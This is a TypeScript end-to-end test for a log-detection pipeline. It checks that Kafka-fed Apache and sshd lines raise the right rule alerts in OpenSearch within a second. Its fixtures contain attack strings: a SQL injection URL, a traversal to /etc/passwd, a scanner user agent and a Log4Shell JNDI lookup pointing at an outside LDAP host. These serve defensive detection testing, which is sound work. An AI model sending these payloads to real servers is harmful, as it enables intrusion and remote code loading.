/**
 * Detection end to end through the real Kafka and OpenSearch, as a user runs
 * Vigil: the collector tails an Apache access log and receives sshd messages
 * over TCP syslog; the processor evaluates the shipped rule pack. Attack
 * lines raise the expected rules' alerts on vigil.alerts and carry the rule
 * ids in `vigil.rule_hits` in the index; benign lines raise nothing. The
 * latency from a line's Kafka message to its alert's Kafka message is
 * measured from the two messages' timestamps (p50/p99; goal: within 1 s).
 */
import { appendFileSync, mkdtempSync, writeFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@opensearch-project/opensearch';
import { afterAll, describe, expect, it } from 'vitest';
import { decodeMessage, eventId } from '../../core/event/raw-record.ts';
import { ROOT, runVigil, spawnVigil, type VigilProcess, waitFor } from '../helpers/cli.ts';
import { cleanupRun } from '../helpers/indexing.ts';
import { testKafka, topicMessageCount } from '../helpers/kafka-topic.ts';
import { KAFKA_BROKERS, listenPort, OPENSEARCH_URL, uniqueName } from '../helpers/services.ts';

const dir = mkdtempSync(join(tmpdir(), 'vigil-detection-'));
const prefix = uniqueName('e2e-detection');
const opensearch = new Client({ node: OPENSEARCH_URL });
const processes: VigilProcess[] = [];

afterAll(() => cleanupRun({ prefix, dir, opensearch, processes }));

const apache = (path: string, agent = 'Mozilla/5.0 (X11; Linux x86_64) Firefox/132.0', status = 200) => {
  const time = new Date()
    .toUTCString()
    .replace(
      /^\w+, (\d+) (\w+) (\d+) ([\d:]+) GMT$/,
      (_m, d, mo, y, t) => `${d.padStart(2, '0')}/${mo}/${y}:${t} +0000`,
    );
  return `203.0.113.9 - - [${time}] "GET ${path} HTTP/1.1" ${status} 512 "-" "${agent}"`;
};

/** Each line with the titles of the rules it must raise (none for benign lines). */
const CASES: Array<{ via: 'file' | 'tcp'; text: () => string; rules: string[] }> = [
  {
    via: 'file',
    text: () => apache('/item.php?id=1%20union%20select%20password%20from%20users'),
    rules: ['SQL Injection Attempt In Request URL'],
  },
  {
    via: 'file',
    text: () => apache('/static/../../../../etc/passwd'),
    rules: ['Path Traversal Attempt In Request URL'],
  },
  {
    via: 'file',
    text: () => apache('/', 'sqlmap/1.7.2#stable (https://sqlmap.org)'),
    rules: ['Request From A Vulnerability Scanner'],
  },
  {
    via: 'file',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack's own text.
    text: () => apache('/', '${jndi:ldap://198.51.100.5:1389/a}'),
    rules: ['Log4Shell JNDI Lookup In A Request'],
  },
  {
    via: 'tcp',
    text: () => 'Failed password for root from 198.51.100.23 port 41236 ssh2',
    rules: ['SSH Failed Password For Root'],
  },
  {
    via: 'tcp',
    text: () => 'Invalid user admin from 198.51.100.23 port 41234',
    rules: ['SSH Login Attempt With An Invalid User'],
  },
  { via: 'file', text: () => apache('/index.html'), rules: [] },
  {
    via: 'tcp',
    text: () => 'Accepted publickey for alice from 10.0.0.5 port 50122 ssh2: RSA SHA256:abcdef',
    rules: [],
  },
];
const ROUNDS = 20;

interface Timed<T> {
  value: T;
  timestamp: number;
}

/** Follows a topic from the beginning, keeping each message's value and timestamp. */
async function follow(topic: string): Promise<{ messages: Timed<string>[]; stop: () => Promise<void> }> {
  const consumer = testKafka().consumer({ groupId: uniqueName('follow'), allowAutoTopicCreation: false });
  const messages: Timed<string>[] = [];
  await consumer.connect();
  await consumer.subscribe({ topic, fromBeginning: true });
  await consumer.run({
    eachMessage: async ({ message }) => {
      messages.push({ value: message.value?.toString() ?? '', timestamp: Number(message.timestamp) });
    },
  });
  return { messages, stop: () => consumer.disconnect() };
}

function percentile(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)] as number;
}

describe('detection in the stream', () => {
  it('raises the pack rules for attack lines from a file and from TCP syslog, within a second of Kafka', {
    timeout: 240_000,
  }, async () => {
    const logFile = join(dir, 'access.log');
    writeFileSync(logFile, '');
    const tcpPort = listenPort();
    const configFile = join(dir, 'vigil.yaml');
    writeFileSync(
      configFile,
      `kafka:
  brokers: ${JSON.stringify(KAFKA_BROKERS)}
  partitions: 2
  topics: { raw: ${prefix}.raw, signals: ${prefix}.signals, alerts: ${prefix}.alerts, dlq: ${prefix}.dlq }
opensearch: { url: ${OPENSEARCH_URL}, index_prefix: ${prefix}, index_replicas: 0 }
http: { enabled: false }
collector:
  id: detection-host
  data_dir: ${join(dir, 'collector')}
  poll_interval_ms: 20
  files:
    - { paths: [${JSON.stringify(logFile)}], dataset: apache.access }
  syslog:
    - { protocol: tcp, address: "127.0.0.1:${tcpPort}", dataset: linux.auth }
processor:
  group_id: ${prefix}-processors
  session_timeout_ms: 6000
rules:
  paths: [${JSON.stringify(join(ROOT, 'rules', 'packs'))}]
`,
    );
    const setup = await runVigil(['setup', '-c', configFile]);
    expect(setup.code, setup.stdout + setup.stderr).toBe(0);
    const raw = await follow(`${prefix}.raw`);
    const alertsTopic = await follow(`${prefix}.alerts`);
    const processor = spawnVigil(['processor', '-c', configFile]);
    const collector = spawnVigil(['collector', '-c', configFile]);
    processes.push(processor, collector);
    await waitFor('the processor', () => processor.output().includes('Processor started.'), 60_000);
    await waitFor('the TCP listener', () => collector.output().includes('Syslog listener started.'), 60_000);
    const socket: Socket = await new Promise((resolve, reject) => {
      const s = connect({ host: '127.0.0.1', port: tcpPort }, () => resolve(s));
      s.on('error', reject);
    });

    // One line at a time, so each travels in a Kafka message of its own.
    const sent: Array<{ text: string; rules: string[] }> = [];
    for (let round = 0; round < ROUNDS; round++) {
      for (const [i, c] of CASES.entries()) {
        const text = c.text();
        if (c.via === 'file') appendFileSync(logFile, `${text}\n`);
        else socket.write(`<38>1 ${new Date().toISOString()} bastion sshd ${4000 + i} - - ${text}\n`);
        sent.push({ text, rules: c.rules });
        await new Promise((r) => setTimeout(r, 60));
      }
    }
    socket.end();
    const expectedAlerts = sent.reduce((n, s) => n + s.rules.length, 0);
    await waitFor(`${expectedAlerts} alerts`, () => alertsTopic.messages.length >= expectedAlerts, 90_000);
    await waitFor(`${sent.length} raw records`, () => {
      let records = 0;
      for (const m of raw.messages) {
        const decoded = decodeMessage(m.value);
        if (!('invalid' in decoded)) records += decoded.length;
      }
      return records >= sent.length;
    });
    // Stragglers (unexpected alerts) get a moment to show up.
    await new Promise((r) => setTimeout(r, 1500));

    // Each event id → its line and the time its Kafka message was written.
    const lines = new Map<string, { line: string; timestamp: number }>();
    for (const m of raw.messages) {
      const decoded = decodeMessage(m.value);
      if ('invalid' in decoded) continue;
      for (const record of decoded) lines.set(eventId(record), { line: record.line, timestamp: m.timestamp });
    }
    const alerts = alertsTopic.messages.map((m) => ({
      alert: JSON.parse(m.value) as {
        id: string;
        kind: string;
        rule: { title: string };
        event_ids: string[];
      },
      timestamp: m.timestamp,
    }));
    await raw.stop();
    await alertsTopic.stop();

    // Exactly the expected rules for each line, nothing for benign ones.
    const raised = new Map<string, string[]>();
    const latencies: number[] = [];
    for (const { alert, timestamp } of alerts) {
      expect(alert.kind).toBe('detection');
      const id = alert.event_ids[0] as string;
      const source = lines.get(id);
      expect(source, `alert ${alert.id} points at an event that was sent`).toBeDefined();
      if (!source) continue;
      raised.set(id, [...(raised.get(id) ?? []), alert.rule.title]);
      latencies.push(timestamp - source.timestamp);
    }
    expect(lines.size).toBe(sent.length);
    for (const [id, { line }] of lines) {
      const expected = sent.find((s) => line === s.text || line.endsWith(` ${s.text}`));
      expect(expected, `a line that was sent: ${line}`).toBeDefined();
      expect((raised.get(id) ?? []).sort(), line).toEqual([...(expected?.rules ?? [])].sort());
    }
    expect(new Set(alerts.map((a) => a.alert.id)).size).toBe(expectedAlerts);

    latencies.sort((a, b) => a - b);
    const p50 = percentile(latencies, 50);
    const p99 = percentile(latencies, 99);
    console.log(
      `Detection latency over ${latencies.length} alerts (line's Kafka message → alert's Kafka message): p50 ${p50} ms, p99 ${p99} ms, max ${latencies.at(-1)} ms.`,
    );
    expect(p99).toBeLessThanOrEqual(1000);

    // The index records the rule ids on the matching events: the attack lines, and the accepted
    // login, which matches "SSH Login Accepted" — a rule only the brute-force correlation uses, so it
    // raises no alert of its own (Sigma's `generate: false`) but feeds vigil.signals.
    await opensearch.indices.refresh({ index: `${prefix}-*` });
    const count = async (query: Record<string, unknown>) =>
      (await opensearch.count({ index: `${prefix}-*`, body: { query } })).body.count as number;
    const attacks = ROUNDS * CASES.filter((c) => c.rules.length > 0).length;
    expect(await count({ exists: { field: 'vigil.rule_hits' } })).toBe(attacks + ROUNDS);
    expect(await count({ term: { 'vigil.rule_hits': '9a4e6b21-0c7d-4f3e-8b15-2d6c9e8f7a30' } })).toBe(ROUNDS);
    expect(await count({ bool: { must_not: { exists: { field: 'vigil.rule_hits' } } } })).toBe(ROUNDS);
    // Signals for the brute-force correlation: each failed root password and each accepted login.
    expect(await topicMessageCount(`${prefix}.signals`)).toBe(2 * ROUNDS);
  });
});
